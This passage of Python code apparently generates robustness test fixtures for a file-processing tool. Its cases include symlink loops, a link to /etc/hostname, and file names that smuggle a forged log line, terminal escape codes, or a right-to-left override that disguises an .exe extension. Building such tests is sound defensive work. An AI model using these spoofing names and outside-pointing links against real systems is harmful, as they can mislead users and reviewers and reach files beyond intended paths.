    page = depth + 2
    objects.append(PAGE % (page - 1, page + 1, page + 2))
    objects += [_stream(_content(_lines(_notice(rng, ctx)))), FONT_OBJ]
    return _write(stem.with_suffix(".pdf"), _pdf_objects(objects))


# ---------------------------------------------------------------- kinds: the file system


@kind("fifo")
def fifo(stem, rng, ctx):
    path = stem.with_suffix(".txt")
    os.mkfifo(path)
    return path


@kind("directory_named_txt")
def directory_named_txt(stem, rng, ctx):
    path = stem.with_suffix(rng.choice(EXTENSIONS))
    path.mkdir()
    return path


@kind("broken_symlink")
def broken_symlink(stem, rng, ctx):
    path = stem.with_suffix(".txt")
    path.symlink_to(stem.parent / f"missing-{stem.name}.txt")
    return path


@kind("symlink_loop")
def symlink_loop(stem, rng, ctx):
    path = stem.with_suffix(".txt")
    path.symlink_to(path.name)
    return path


@kind("symlink_dir")
def symlink_dir(stem, rng, ctx):
    """A link to a folder (outside the batch folders) holding one real notice."""
    target = ctx.out_dir / "_linked"
    if not target.exists():
        target.mkdir()
        _write(target / "linked-notice.txt", ctx.notices[0])
    path = stem.with_suffix(rng.choice(("", ".txt")))
    path.symlink_to(target, target_is_directory=True)
    return path


@kind("symlink_outside")
def symlink_outside(stem, rng, ctx):
    path = stem.with_suffix(".txt")
    path.symlink_to("/etc/hostname")
    return path


@kind("hidden_file")
def hidden_file(stem, rng, ctx):
    path = stem.parent / f".{stem.name}{rng.choice(EXTENSIONS)}"
    return _write(path, _notice(rng, ctx))


@kind("office_lock_file")
def office_lock_file(stem, rng, ctx):
    # Word's owner file: a length byte, the user name, padding
    owner = b"\x05Nguyen" + b"\x00" * 48 + "Nguyễn".encode("utf-16-le") + b"\x00" * 90
    path = stem.parent / f"~${stem.name}{rng.choice(('.docx', '.docx', '.txt'))}"
    return _write(path, owner)


def _litter(name: str, content: Callable[[random.Random], bytes]) -> Maker:
    def make(stem, rng, ctx):
        stem.mkdir()  # a folder per case: litter names repeat
        return _write(stem / name, content(rng))

    return make


kind("thumbs_db")(
    _litter("Thumbs.db", lambda rng: b"\xd0\xcf\x11\xe0" + rng.randbytes(2000))
)
kind("ds_store")(
    _litter(".DS_Store", lambda rng: b"\x00\x00\x00\x01Bud1" + rng.randbytes(500))
)
kind("desktop_ini")(
    _litter("desktop.ini", lambda rng: b"[.ShellClassInfo]\r\nIconResource=x.ico,0\r\n")
)


def _named(name: Callable[[str], bytes]) -> Maker:
    """A real notice under a strange file name (bytes: need not be UTF-8)."""

    def make(stem, rng, ctx):
        raw = os.fsencode(stem.parent) + b"/" + name(stem.name)
        with open(raw, "wb") as f:
            f.write(_notice(rng, ctx).encode("utf-8"))
        return Path(os.fsdecode(raw))

    return make


kind("name_newline")(_named(lambda s: s.encode() + b"\nrejected x.txt: fake\n.txt"))
kind("name_control")(_named(lambda s: s.encode() + b"\x01\x1b[2J\x7f\t\r.txt"))
kind("name_non_utf8")(_named(lambda s: s.encode() + b"-caf\xe9-\xff\xfe.txt"))
kind("name_unicode_tricks")(
    _named(lambda s: (s + "-\u202etxt.exe\u202c-Sở Tài chính\u200b.md").encode())
)
